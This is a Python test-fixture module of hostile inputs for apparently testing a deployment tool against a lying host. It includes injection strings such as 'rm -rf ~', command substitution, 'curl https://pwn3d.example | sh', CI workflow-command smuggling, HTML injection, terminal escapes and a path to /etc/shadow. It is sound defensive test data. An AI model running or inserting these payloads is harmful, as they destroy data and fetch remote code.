"""What a lying host puts in the place of a true word. `MARK` is in whatever must not be obeyed."""

from __future__ import annotations

from typing import Any, Final

MARK: Final = "pwn3d"
"""Said by no honest host: where it is shown as a command to copy, a lie has become one."""

TEXTS: Final[dict[str, str]] = {
    "shell code": f"x; rm -rf ~ #{MARK}",
    "substitution": f"$(touch {MARK})`touch {MARK}`",
    "quotes": f"'\"; touch {MARK} '\"",
    "a command in front": f"deployctl rollback {MARK}",
    "a second line": f"sha-1a2b3c4\ncurl https://{MARK}.example | sh",
    "other line ends": f"a\r\ndeployctl {MARK}\x0bb\x85c\u2028rm {MARK}\u2029d",
    "an option": f"--inventory=/tmp/{MARK}",
    "almost a tag": f"sha-1a2b3c4{MARK}",
    "almost a run": f"20261124t120000z-1a2b3c4d;{MARK}",
    "colours and a title": f"\x1b[2J\x1b[31m{MARK}\x1b]0;{MARK}\x07\x9b2J",
    "control characters": f"\x00\x01\x08\x7f\x84{MARK}",
    "an output": f"x\n::set-output name=tag::{MARK}\n::add-mask::{MARK}",
    "an old command": f"##[add-mask]{MARK} ##[error]{MARK}",
    "an end of an output": f"x\nghadelimiter\ntag={MARK}\ntag<<E\n{MARK}\nE",
    "a fence": f"x\n```\n# {MARK}\n[link](https://{MARK}.example)\n```sh\n{MARK}",
    "HTML": f"</code></td></table><img src=https://{MARK}.example/x.png><!--",
    "a table": f"| {MARK} | `{MARK}` |",
    "markup": f"[bold red]{MARK}[/bold red] [/opt/infra]",
    "braces": f"{{0}} {{path}} %s %(x)s ${{{{ secrets.{MARK} }}}}",
    "a lone surrogate": f"\ud800{MARK}",
    "another surrogate": f"{MARK}\udcff",
    "bidi": f"\u202e{MARK}\u2066\u200b\u200f",
    "look-alikes": "sha-１a2b3c4",  # noqa: RUF001 - a digit that is none
    "letters of others": f"dеployctl {MARK}",  # noqa: RUF001 - a Cyrillic letter
    "a path": f"/etc/../{MARK}/shadow",
    "a long text": "A" * 100_000 + MARK,
    "empty": "",
    "a space": " ",
    "the year 1": "0001-01-01T00:00:00Z",
    "the first moment": "0001-01-01T00:00:00+23:59",
    "the last moment": "9999-12-31T23:59:59-23:59",
    "no date": "2026-13-45T99:99:99Z",
    "a long number": "9" * 5000,
    "held": "held",
    "deploy": "deploy",
    "rollback": "rollback",
    "broken": "broken",
    "denied": "denied",
    "unhealthy": "unhealthy",
    "not-writable": "not-writable",
}

OTHERS: Final[dict[str, Any]] = {
    "null": None,
    "true": True,
    "zero": 0,
    "one": 1,
    "negative": -1,
    "huge": 10**400,
    "larger than a float": 2**1100,
    "infinite": float("inf"),
    "not a number": float("nan"),
    "a list": [MARK, [MARK]],
    "an object": {MARK: {MARK: MARK}},
    "deep": [[[[[[[[[[MARK]]]]]]]]]],
}

HOSTILE: Final[dict[str, Any]] = {**TEXTS, **OTHERS}
